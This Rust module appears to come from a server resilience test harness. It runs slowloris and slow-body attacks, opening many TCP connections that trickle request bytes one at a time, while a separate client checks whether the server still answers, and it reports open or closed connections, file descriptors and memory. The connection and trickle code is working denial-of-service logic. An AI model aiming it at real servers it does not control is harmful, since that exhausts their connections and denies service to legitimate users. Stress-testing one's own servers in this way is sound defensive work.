//! Attacks 2 and 3, slow clients: many raw connections that send a request slowly, one byte per
//! interval, either in the head (slowloris) or in a body announced by `Content-Length` (slow
//! body). The driver counts how many the server still holds open at the end and how soon it
//! closed the others, while an innocent caller keeps opening sessions and calling a tool.

use std::collections::BTreeMap;
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};

use crate::client::{self, round1, Probe};
use crate::server::Server;
use crate::starve::{addresses, counts};
use crate::{Args, Outcome};

/// Where the trickle goes.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Phase {
    /// The request head never ends (slowloris).
    Head,
    /// The head is complete; the body announced by `Content-Length` trickles.
    Body,
}

/// The body a slow-body connection announces: far more bytes than it will ever send.
const BODY_LEN: usize = 4096;

/// What one slow connection saw.
enum End {
    /// The connection could not be opened.
    Refused(String),
    /// Still open when the attack ended (kept open until the last probe is done).
    Open { _kept: TcpStream },
    /// The server closed it (or answered and closed) this long after the attack started, and
    /// `lived` after this connection was established; `how` says which.
    Closed {
        after: Duration,
        lived: Duration,
        how: String,
    },
}

/// The bytes sent at once on connecting, then the bytes trickled one at a time.
fn request(phase: Phase, addr: SocketAddr, path: &str) -> (Vec<u8>, Vec<u8>) {
    let start = format!("POST {path} HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n");
    match phase {
        // A header line that never ends.
        Phase::Head => (format!("{start}X-Slow: ").into_bytes(), vec![b'a'; 1 << 16]),
        // Spaces are valid JSON whitespace: the body is well formed up to the byte it stops at.
        Phase::Body => (
            format!("{start}Content-Length: {BODY_LEN}\r\n\r\n").into_bytes(),
            vec![b' '; BODY_LEN],
        ),
    }
}

/// A connection to `addr` from `from` (port chosen by the system).
async fn connect_from(from: IpAddr, addr: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = match from {
        IpAddr::V4(_) => TcpSocket::new_v4()?,
        IpAddr::V6(_) => TcpSocket::new_v6()?,
    };
    socket.bind(SocketAddr::new(from, 0))?;
    socket.connect(addr).await
}

/// One slow connection from `from` until `deadline`: the opening bytes, then one byte per
/// `interval`, while watching for the server closing it or answering.
async fn slow_connection(
    from: IpAddr,
    addr: SocketAddr,
    first: Vec<u8>,
    rest: Vec<u8>,
    interval: Duration,
    start: Instant,
    deadline: tokio::time::Instant,
) -> End {
    let mut tcp = match connect_from(from, addr).await {
        Ok(tcp) => tcp,
        Err(e) => return End::Refused(e.kind().to_string()),
    };
    let connected = Instant::now();
    let closed = |how: String| End::Closed {
        after: start.elapsed(),
        lived: connected.elapsed(),
        how,
    };
    if let Err(e) = tcp.write_all(&first).await {
        return closed(format!("write failed: {}", e.kind()));
    }
    let mut next = rest.iter();
    let mut tick = tokio::time::interval_at(tokio::time::Instant::now() + interval, interval);
    let mut buf = [0u8; 512];
    let mut answer = Vec::new();
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(deadline) => return End::Open { _kept: tcp },
            read = tcp.read(&mut buf) => match read {
                // The server's answer, if it sent one, names the status it closed with.
                Ok(0) if answer.is_empty() => return closed("closed without an answer".into()),
                Ok(0) => return closed(status_line(&answer)),
                Ok(n) => {
                    if answer.len() < 512 {
                        answer.extend_from_slice(&buf[..n]);
                    }
                }
                Err(e) if answer.is_empty() => return closed(format!("reset ({})", e.kind())),
                Err(_) => return closed(status_line(&answer)),
            },
            _ = tick.tick() => {
                let byte = next.next().copied().unwrap_or(b' ');
                if let Err(e) = tcp.write_all(&[byte]).await {
                    return closed(format!("write failed: {}", e.kind()));
                }
            }
        }
    }
}

/// "answered HTTP 408 and closed" from the first bytes of a response.
fn status_line(answer: &[u8]) -> String {
    let text = String::from_utf8_lossy(answer);
    let line = text.lines().next().unwrap_or("").trim();
    match line.split_whitespace().nth(1) {
        Some(code) if line.starts_with("HTTP/") => format!("answered HTTP {code} and closed"),
        _ => format!("answered `{line:.40}` and closed"),
    }
}

/// Run the slow-client attack `phase` against `server`.
pub(crate) async fn run(server: &Server, args: &Args, phase: Phase) -> Result<Outcome, String> {
    let interval = Duration::from_millis(args.trickle_interval_ms);
    let hold = Duration::from_millis(args.trickle_hold_ms);
    let (first, rest) = request(phase, server.addr, &server.path);
    let start = Instant::now();
    let deadline = tokio::time::Instant::now() + hold;
    let conns = (0..args.trickle_conns).map(|i| {
        slow_connection(
            args.attacker(i),
            server.addr,
            first.clone(),
            rest.clone(),
            interval,
            start,
            deadline,
        )
    });
    let attack = futures::future::join_all(conns);
    // The innocent caller: a new session and a trivial call, again and again until the end.
    let trivial: Value = args.trivial_arguments()?;
    let probes = async {
        let mut probes: Vec<Probe> = Vec::new();
        // Let the connections open first.
        tokio::time::sleep(Duration::from_millis(args.probe_delay_ms).min(hold / 2)).await;
        let fds_during = server.open_fds();
        while tokio::time::Instant::now() < deadline {
            // The full cap even near the end: the slow connections stay open until it is done.
            let cap = Duration::from_millis(args.probe_timeout_ms);
            let from = args.innocent();
            probes.push(client::probe(from, &server.url, &args.trivial_tool, &trivial, cap).await);
            tokio::time::sleep_until((tokio::time::Instant::now() + interval).min(deadline)).await;
        }
        (probes, fds_during)
    };
    let (ends, (probes, fds_during)) = tokio::join!(attack, probes);
    let fds_end = server.open_fds();
    let memory = server.memory_kib();

    let mut refused = BTreeMap::<String, u64>::new();
    let mut closed_how = BTreeMap::<String, u64>::new();
    let mut closed_after: Vec<f64> = Vec::new();
    let mut open = 0u64;
    // Closed within a second of being established: refused on accept (a connection cap), not
    // timed out. (Counted from the connection, not the attack: under a burst of connects some
    // wait a SYN retransmission, 1 s, before they are established.)
    let mut at_once = 0u64;
    for end in ends {
        match end {
            End::Refused(e) => *refused.entry(e).or_default() += 1,
            End::Open { .. } => open += 1,
            End::Closed { after, lived, how } => {
                at_once += u64::from(lived < Duration::from_secs(1));
                *closed_how.entry(how).or_default() += 1;
                closed_after.push(after.as_secs_f64());
            }
        }
    }
    closed_after.sort_by(f64::total_cmp);
    let pick = |q: f64| {
        (!closed_after.is_empty())
            .then(|| round1(closed_after[((closed_after.len() - 1) as f64 * q) as usize]))
    };
    let answered = probes.iter().filter(|p| p.answered).count();
    let slowest = probes.iter().map(|p| p.total_ms).fold(0.0, f64::max);
    let first_failure = probes.iter().find_map(|p| p.error.clone());
    let summary = format!(
        "{} conns from {}, 1 byte / {} s {}, {} s: {} still open, {} closed by the server ({}; {} within 1 s of connecting; median after {} s){}; fresh client: {}/{} probes answered, slowest {:.0} ms{}",
        args.trickle_conns,
        addresses(args),
        interval.as_secs_f64(),
        match phase {
            Phase::Head => "in the head",
            Phase::Body => "in the body",
        },
        hold.as_secs_f64(),
        open,
        closed_after.len(),
        counts(&closed_how),
        at_once,
        pick(0.5).map_or("-".into(), |s| s.to_string()),
        if refused.is_empty() {
            String::new()
        } else {
            format!(", {} refused ({})", refused.values().sum::<u64>(), counts(&refused))
        },
        answered,
        probes.len(),
        slowest,
        first_failure.map_or(String::new(), |e| format!(" (first failure: {e})")),
    );
    Ok(Outcome {
        params: json!({
            "connections": args.trickle_conns,
            "interval_ms": args.trickle_interval_ms,
            "hold_ms": args.trickle_hold_ms,
            "probe_cap_ms": args.probe_timeout_ms,
            "attack_from": args.attack_from,
        }),
        result: json!({
            "still_open": open,
            "closed": closed_after.len(),
            "refused": refused,
            "closed_how": closed_how,
            "closed_within_1s_of_connecting": at_once,
            "closed_after_s": {"first": pick(0.0), "median": pick(0.5), "last": pick(1.0)},
            "server_fds": {"during": fds_during, "end": fds_end},
            "rss_kib": memory.map(|m| m.0),
            "probes": probes.len(),
            "probes_answered": answered,
            "probe_slowest_ms": round1(slowest),
            "probe_first": probes.first().map(Probe::json),
        }),
        summary,
    })
}
